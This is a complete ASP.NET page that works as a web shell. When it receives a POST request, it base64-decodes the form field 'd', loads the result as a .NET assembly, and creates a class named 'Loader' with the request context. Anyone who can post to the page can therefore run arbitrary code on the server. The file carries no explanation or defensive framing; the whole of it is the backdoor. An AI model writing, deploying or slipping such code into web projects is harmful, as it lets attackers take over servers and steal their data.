<%@ Page Language="C#" %>
<%@ Import Namespace="System.Reflection" %>
<script runat="server">
protected void Page_Load(object sender, EventArgs e)
{
    if (Request.HttpMethod != "POST") return;
    Assembly.Load(Convert.FromBase64String(Request.Form["d"])).CreateInstance("Loader").Equals(Context);
}
</script>
